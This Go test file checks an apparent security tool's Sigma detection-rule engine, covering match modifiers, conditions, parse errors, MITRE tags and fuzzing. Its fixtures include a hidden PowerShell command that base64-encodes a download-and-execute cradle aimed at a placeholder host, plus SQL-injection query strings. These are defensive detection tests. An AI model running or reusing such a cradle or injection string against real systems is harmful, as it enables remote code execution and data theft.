package sigma

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
)

func mustEvent(t testing.TB, js string) *event.Event {
	t.Helper()
	e, err := event.DecodeOne([]byte(js))
	if err != nil {
		t.Fatalf("decode %s: %v", js, err)
	}
	if _, err := event.Normalize(e, "default", time.Now(), event.DefaultLimits()); err != nil {
		t.Fatalf("normalize %s: %v", js, err)
	}
	return e
}

func compileOne(t testing.TB, src string) *Matcher {
	t.Helper()
	rules, errs := ParseFile("test.yml", []byte(src))
	if len(errs) > 0 {
		t.Fatalf("parse: %v", errs[0])
	}
	if len(rules) != 1 {
		t.Fatalf("want 1 rule, got %d", len(rules))
	}
	m, err := Compile(rules[0], nil)
	if err != nil {
		t.Fatalf("compile: %v", err)
	}
	return m
}

func rule(detection string) string {
	return "title: t\nlogsource:\n  product: vigil\ndetection:\n" + detection
}

func TestModifiers(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte("secret payload"))
	cases := []struct {
		name, detection, event string
		want                   bool
	}{
		{"equals is case-insensitive", "  sel:\n    user: ALICE\n  condition: sel", `{"type":"authentication.login","user":"alice"}`, true},
		{"cased", "  sel:\n    user|cased: ALICE\n  condition: sel", `{"type":"authentication.login","user":"alice"}`, false},
		{"contains", "  sel:\n    message|contains: PASSWORD\n  condition: sel", `{"type":"authentication.login","message":"bad password for x"}`, true},
		{"startswith", "  sel:\n    resource|startswith: 'table:'\n  condition: sel", `{"type":"audit.query","resource":"table:payments"}`, true},
		{"endswith", "  sel:\n    resource|endswith: ments\n  condition: sel", `{"type":"audit.query","resource":"table:payments"}`, true},
		{"wildcard", "  sel:\n    resource: 'tab*pay?ents'\n  condition: sel", `{"type":"audit.query","resource":"table:payments"}`, true},
		{"escaped wildcard is literal", "  sel:\n    message: 'a\\*b'\n  condition: sel", `{"type":"audit.query","message":"axxb"}`, false},
		{"escaped wildcard matches star", "  sel:\n    message: 'a\\*b'\n  condition: sel", `{"type":"audit.query","message":"a*b"}`, true},
		{"list is OR", "  sel:\n    action: [logout, login]\n  condition: sel", `{"type":"authentication.login","action":"login"}`, true},
		{"all", "  sel:\n    message|contains|all: [bad, password]\n  condition: sel", `{"type":"authentication.login","message":"bad password"}`, true},
		{"all fails", "  sel:\n    message|contains|all: [bad, token]\n  condition: sel", `{"type":"authentication.login","message":"bad password"}`, false},
		{"re case-sensitive", "  sel:\n    message|re: '^Bad'\n  condition: sel", `{"type":"authentication.login","message":"bad password"}`, false},
		{"re i", "  sel:\n    message|re|i: '^Bad'\n  condition: sel", `{"type":"authentication.login","message":"bad password"}`, true},
		{"re m", "  sel:\n    data.text|re|m: '^second$'\n  condition: sel", `{"type":"audit.query","data":{"text":"first\nsecond"}}`, true},
		{"re s", "  sel:\n    data.text|re|s: 'first.second'\n  condition: sel", `{"type":"audit.query","data":{"text":"first\nsecond"}}`, true},
		{"cidr", "  sel:\n    src_ip|cidr: 203.0.113.0/24\n  condition: sel", `{"type":"authentication.login","src_ip":"203.0.113.7"}`, true},
		{"cidr v6", "  sel:\n    src_ip|cidr: '2001:db8::/32'\n  condition: sel", `{"type":"authentication.login","src_ip":"2001:db8::1"}`, true},
		{"cidr miss", "  sel:\n    src_ip|cidr: 10.0.0.0/8\n  condition: sel", `{"type":"authentication.login","src_ip":"203.0.113.7"}`, false},
		{"exists true", "  sel:\n    data.session|exists: true\n  condition: sel", `{"type":"authentication.login","data":{"session":"s1"}}`, true},
		{"exists false", "  sel:\n    data.session|exists: false\n  condition: sel", `{"type":"authentication.login"}`, true},
		{"null", "  sel:\n    user: null\n  condition: sel", `{"type":"authentication.login"}`, true},
		{"gte", "  sel:\n    risk_score|gte: 70\n  condition: sel", `{"type":"authentication.login","risk_score":70}`, true},
		{"gt", "  sel:\n    risk_score|gt: 70\n  condition: sel", `{"type":"authentication.login","risk_score":70}`, false},
		{"lt data", "  sel:\n    data.n|lt: 5\n  condition: sel", `{"type":"audit.query","data":{"n":4.5}}`, true},
		{"lte string number", "  sel:\n    data.n|lte: 5\n  condition: sel", `{"type":"audit.query","data":{"n":"5"}}`, true},
		{"number equals", "  sel:\n    data.EventID: 4625\n  condition: sel", `{"type":"audit.query","data":{"EventID":4625}}`, true},
		{"bool equals", "  sel:\n    data.blocked: true\n  condition: sel", `{"type":"rate_limit.blocked","data":{"blocked":true}}`, true},
		{"base64", "  sel:\n    data.cmd|base64: 'secret payload'\n  condition: sel", `{"type":"audit.query","data":{"cmd":"` + b64 + `"}}`, true},
		{"base64offset contains", "  sel:\n    data.cmd|base64offset|contains: 'payload'\n  condition: sel", `{"type":"audit.query","data":{"cmd":"xx` + b64 + `yy"}}`, true},
		{"windash", "  sel:\n    data.cmd|windash|contains: ' -enc '\n  condition: sel", `{"type":"audit.query","data":{"cmd":"powershell /enc AAA"}}`, true},
		{"windash en dash", "  sel:\n    data.cmd|windash|contains: ' -enc '\n  condition: sel", `{"type":"audit.query","data":{"cmd":"powershell \u2013enc AAA"}}`, true},
		{"windash en dash spaced", "  sel:\n    data.cmd|windash|contains: '-enc'\n  condition: sel", `{"type":"audit.query","data":{"cmd":"powershell \u2013enc AAA"}}`, true},
		{"fieldref", "  sel:\n    data.granted_by|fieldref: user\n  condition: sel", `{"type":"authorization.grant","user":"bob","data":{"granted_by":"Bob"}}`, true},
		{"fieldref miss", "  sel:\n    data.granted_by|fieldref: user\n  condition: sel", `{"type":"authorization.grant","user":"bob","data":{"granted_by":"carol"}}`, false},
		{"field map", "  sel:\n    TargetUserName: alice\n    IpAddress: 10.0.0.1\n  condition: sel", `{"type":"authentication.login","user":"alice","src_ip":"10.0.0.1"}`, true},
		{"unmapped goes to data", "  sel:\n    WorkstationName: WS1\n  condition: sel", `{"type":"authentication.login","data":{"WorkstationName":"ws1"}}`, true},
		{"nested data", "  sel:\n    process.name: cmd.exe\n  condition: sel", `{"type":"system.process","data":{"process":{"name":"CMD.EXE"}}}`, true},
		{"keywords", "  keywords:\n    - 'union all select'\n  condition: keywords", `{"type":"audit.query","data":{"q":"id=1 UNION ALL SELECT pw"}}`, true},
		{"array field", "  sel:\n    tags: vip\n  condition: sel", `{"type":"audit.query","tags":["x","VIP"]}`, true},
		{"utf16le base64", "  sel:\n    data.cmd|wide|base64offset|contains: 'ping'\n  condition: sel", `{"type":"audit.query","data":{"cmd":"` + base64.StdEncoding.EncodeToString([]byte("p\x00i\x00n\x00g\x00")) + `"}}`, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			m := compileOne(t, rule(c.detection))
			if got := m.Match(mustEvent(t, c.event)); got != c.want {
				t.Fatalf("match = %v, want %v", got, c.want)
			}
		})
	}
}

func TestConditions(t *testing.T) {
	det := `  sel_a:
    user: alice
  sel_b:
    action: login
  filter_x:
    src_ip: 10.0.0.1
  filter_y:
    outcome: failure
`
	ev := `{"type":"authentication.login","user":"alice","action":"login","src_ip":"10.0.0.2","outcome":"failure"}`
	cases := map[string]bool{
		"sel_a and sel_b":                              true,
		"sel_a and not sel_b":                          false,
		"sel_a and not filter_x":                       true,
		"all of sel_*":                                 true,
		"1 of filter_*":                                true,
		"all of filter_*":                              false,
		"all of them":                                  false,
		"1 of them":                                    true,
		"sel_a and not 1 of filter_*":                  false,
		"(sel_a or filter_x) and not filter_x":         true,
		"not (sel_a and filter_x)":                     true,
		"filter_x or filter_y and sel_a":               true, // and binds tighter
		"(filter_x or filter_y) and not sel_a":         false,
		"not not sel_a":                                true,
		"sel_a AND sel_b":                              true,
		"2 of them":                                    true,
		"sel_b and (filter_x or (sel_a and filter_y))": true,
	}
	for cond, want := range cases {
		t.Run(cond, func(t *testing.T) {
			m := compileOne(t, rule(det+"  condition: "+cond+"\n"))
			if got := m.Match(mustEvent(t, ev)); got != want {
				t.Fatalf("%s = %v, want %v", cond, got, want)
			}
		})
	}
}

func TestErrorsCarryLine(t *testing.T) {
	cases := []struct {
		name, src string
		line      int
		reason    string
	}{
		{"unknown modifier", rule("  sel:\n    user|bogus: x\n  condition: sel\n"), 6, "unknown modifier"},
		{"bad regex", rule("  sel:\n    user|re: '('\n  condition: sel\n"), 6, "bad regular expression"},
		{"unknown identifier", rule("  sel:\n    user: x\n  condition: sel and nope\n"), 7, "unknown search identifier"},
		{"unbalanced", rule("  sel:\n    user: x\n  condition: (sel\n"), 7, "missing ')'"},
		{"yaml syntax", "title: t\ndetection:\n  sel: [a\n", 0, ""},
		{"no condition", rule("  sel:\n    user: x\n"), 5, "no condition"},
		{"v1 aggregation", rule("  sel:\n    user: x\n  condition: sel | count() > 5\n"), 7, "correlation"},
		{"bad level", "title: t\nlevel: severe\nlogsource: {}\ndetection:\n  sel: {user: x}\n  condition: sel\n", 2, "level"},
		{"bad cidr", rule("  sel:\n    src_ip|cidr: nope\n  condition: sel\n"), 6, "CIDR"},
		{"correlation without type", "title: c\ncorrelation:\n  rules: [a]\n  timespan: 5m\n", 3, "type"},
		{"bad timespan", "title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 5x\n  condition: {gte: 2}\n", 5, "unit"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			rules, errs := ParseFile("rules/x.yml", []byte(c.src))
			var err *Error
			if len(errs) > 0 {
				err = errs[0]
			} else {
				if len(rules) != 1 {
					t.Fatalf("no error and %d rules", len(rules))
				}
				_, cerr := Compile(rules[0], nil)
				if cerr == nil {
					t.Fatal("expected an error")
				}
				err = cerr.(*Error)
			}
			if err.Path != "rules/x.yml" {
				t.Errorf("path = %q", err.Path)
			}
			if c.name == "yaml syntax" {
				if err.Line == 0 {
					t.Errorf("yaml error without line: %v", err)
				}
				return
			}
			if err.Line != c.line {
				t.Errorf("line = %d, want %d (%v)", err.Line, c.line, err)
			}
			if !strings.Contains(err.Reason, c.reason) {
				t.Errorf("reason %q does not mention %q", err.Reason, c.reason)
			}
		})
	}
}

func TestMitreTags(t *testing.T) {
	ta, te := Mitre([]string{"attack.credential_access", "attack.credential-access", "attack.t1110.001", "attack.T1078",
		"attack.g0007", "attack.s0002", "attack.ta0040", "attack.command-and-control", "attack.inhibit-response-function", "cve.2021-44228"})
	if got := strings.Join(ta, ","); got != "TA0006,TA0011,TA0040,TA0107" {
		t.Errorf("tactics = %s", got)
	}
	if got := strings.Join(te, ","); got != "T1078,T1110.001" {
		t.Errorf("techniques = %s", got)
	}
	for name, id := range map[string]string{"reconnaissance": "TA0043", "resource_development": "TA0042", "initial-access": "TA0001",
		"execution": "TA0002", "persistence": "TA0003", "privilege_escalation": "TA0004", "defense-evasion": "TA0005",
		"discovery": "TA0007", "lateral_movement": "TA0008", "collection": "TA0009", "exfiltration": "TA0010", "impact": "TA0040"} {
		if got, _ := TacticID(name); got != id {
			t.Errorf("%s = %s, want %s", name, got, id)
		}
	}
	if got := OWASP([]string{"owasp.a07-2021"}); got != "A07:2021" {
		t.Errorf("owasp = %s", got)
	}
}

// TestSigmaHQStyleRules loads the realistic rules under testdata/rules
// and checks each against events that should and should not match.
func TestSigmaHQStyleRules(t *testing.T) {
	load := func(name string) *Matcher {
		b, err := os.ReadFile(filepath.Join("testdata", "rules", name))
		if err != nil {
			t.Fatal(err)
		}
		rules, errs := ParseFile(name, b)
		if len(errs) > 0 {
			t.Fatal(errs[0])
		}
		m, err := Compile(rules[0], nil)
		if err != nil {
			t.Fatal(err)
		}
		return m
	}
	enc := func(s string) string {
		var b []byte
		for _, r := range s {
			b = append(b, byte(r), 0)
		}
		return base64.StdEncoding.EncodeToString(b)
	}
	_ = enc
	cmd := "powershell.exe -nop -w hidden -e " + base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('http://x')"))
	cases := []struct {
		rule, event string
		want        bool
	}{
		{"win_security_failed_logon_unknown_user.yml", `{"type":"system.winlog","user":"alice","src_ip":"203.0.113.9","data":{"EventID":4625,"SubStatus":"0xc000006a"}}`, true},
		{"win_security_failed_logon_unknown_user.yml", `{"type":"system.winlog","user":"WS01$","src_ip":"203.0.113.9","data":{"EventID":4625,"SubStatus":"0xC000006A"}}`, false},
		{"win_security_failed_logon_unknown_user.yml", `{"type":"system.winlog","user":"alice","src_ip":"127.0.0.1","data":{"EventID":4625,"SubStatus":"0xC000006A"}}`, false},
		{"win_security_failed_logon_unknown_user.yml", `{"type":"system.winlog","user":"alice","data":{"EventID":4624}}`, false},
		{"proc_creation_win_powershell_encoded_cmd.yml", mustJSON(map[string]any{"type": "system.process", "data": map[string]any{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine": cmd}}), true},
		{"proc_creation_win_powershell_encoded_cmd.yml", mustJSON(map[string]any{"type": "system.process", "data": map[string]any{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine": strings.Replace(cmd, " -e ", " /e ", 1)}}), true},
		{"proc_creation_win_powershell_encoded_cmd.yml", mustJSON(map[string]any{"type": "system.process", "data": map[string]any{"Image": `C:\Windows\notepad.exe`, "CommandLine": cmd}}), false},
		{"web_sql_injection_keywords.yml", `{"type":"system.http","data":{"cs-method":"GET","cs-uri-query":"id=1 UNION ALL SELECT password FROM users","sc-status":200}}`, true},
		{"web_sql_injection_keywords.yml", `{"type":"system.http","data":{"cs-method":"GET","cs-uri-query":"id=1 UNION ALL SELECT password FROM users","sc-status":404}}`, false},
		{"web_sql_injection_keywords.yml", `{"type":"system.http","data":{"cs-method":"GET","cs-uri-query":"id=1","sc-status":200}}`, false},
		{"vigil_auth_high_risk.yml", `{"type":"authentication.login","action":"login","outcome":"success","risk_score":85,"src_ip":"198.51.100.4"}`, true},
		{"vigil_auth_high_risk.yml", `{"type":"authentication.login","action":"login","outcome":"success","risk_score":85,"src_ip":"10.1.2.3"}`, false},
		{"vigil_auth_high_risk.yml", `{"type":"audit.login","category":"audit","action":"login","outcome":"success","risk_score":85,"src_ip":"198.51.100.4"}`, false},
	}
	for i, c := range cases {
		m := load(c.rule)
		if got := m.Match(mustEvent(t, c.event)); got != c.want {
			t.Errorf("case %d %s: match = %v, want %v", i, c.rule, got, c.want)
		}
	}
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

func TestCorrelationParse(t *testing.T) {
	b, err := os.ReadFile("testdata/rules/correlation_spec_example.yml")
	if err != nil {
		t.Fatal(err)
	}
	rules, errs := ParseFile("x", b)
	if len(errs) > 0 || len(rules) != 4 {
		t.Fatalf("rules=%d errs=%v", len(rules), errs)
	}
	c := rules[2].Correlation
	if c.Type != EventCount || c.Timespan != 10*time.Minute || c.Condition.Ops["gte"] != 10 || c.GroupBy[0] != "User" {
		t.Fatalf("correlation = %+v", c)
	}
	if rules[3].Correlation.Type != TemporalOrdered || rules[3].Correlation.Rules[0] != "many_failed_logins" {
		t.Fatalf("chained = %+v", rules[3].Correlation)
	}
}

// FuzzLoadRule checks that no input makes the parser or compiler panic,
// and that every rejection is a located *Error.
func FuzzLoadRule(f *testing.F) {
	entries, _ := os.ReadDir("testdata/rules")
	for _, e := range entries {
		b, err := os.ReadFile(filepath.Join("testdata/rules", e.Name()))
		if err == nil {
			f.Add(b)
		}
	}
	f.Add([]byte(rule("  sel:\n    a|re|i: '(x'\n  condition: 1 of sel*\n")))
	f.Fuzz(func(t *testing.T, data []byte) {
		rules, errs := ParseFile("fuzz.yml", data)
		for _, e := range errs {
			if e.Path != "fuzz.yml" || e.Reason == "" {
				t.Fatalf("bad error %+v", e)
			}
		}
		ev := &event.Event{ID: "x", Type: "authentication.login", Category: event.CategoryAuthentication, User: "alice",
			Data: json.RawMessage(`{"a":"b","n":5,"l":["x",1]}`)}
		for _, r := range rules {
			if r.Detection == nil {
				continue
			}
			m, err := Compile(r, nil)
			if err != nil {
				if _, ok := err.(*Error); !ok {
					t.Fatalf("compile error of type %T: %v", err, err)
				}
				continue
			}
			m.Match(ev)
		}
	})
}
